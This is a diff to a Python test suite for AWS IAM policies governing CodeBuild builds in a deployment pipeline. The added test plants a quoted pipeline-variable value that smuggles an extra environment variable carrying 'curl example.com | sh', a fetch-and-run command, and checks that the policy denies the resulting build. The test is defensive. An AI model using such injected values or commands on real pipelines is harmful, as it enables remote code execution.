@@ -275,9 +275,24 @@ def test_the_pipeline_starts_builds_as_their_project_says_alone(project, overrid
         "action": "codebuild:StartBuild",
         "resource": f"arn:aws:codebuild:eu-central-1:{HUB}:project/rolecall-{project}",
     }
-    usual = {"codebuild:environment.environmentVariables.name": ["ROLECALL_TARGETS"]}
-    assert policies.effect(document, **call, keys=usual) == "Allow"
-    assert policies.effect(document, **call, keys={**usual, override: "other"}) == ""
+    assert policies.effect(document, **call, keys={}) == "Allow"
+    assert policies.effect(document, **call, keys={override: "other"}) == ""
+
+
+def test_a_variable_of_the_pipeline_with_a_quote_in_it_adds_none_to_a_stage():
+    document = {"Statement": statements("PipelineRole")}
+    stage = stages(**ALL_STAGES)["Dev"]["Actions"][0]["Configuration"]["EnvironmentVariables"]
+    quoted = 'stop"}, {"name": "ROLECALL_COMMANDS", "value": "curl example.com | sh'
+    for given, wanted in (("stop", "Allow"), (quoted, "")):
+        read = json.loads(stage.replace("#{variables.on_failure}", given))
+        names = [each["name"] for each in read]
+        found = policies.effect(
+            document,
+            action="codebuild:StartBuild",
+            resource=f"arn:aws:codebuild:eu-central-1:{HUB}:project/rolecall-deploy",
+            keys={"codebuild:environment.environmentVariables.name": names},
+        )
+        assert found == wanted, names
 
 
 def test_what_builds_images_pushes_to_its_own_repository_alone():
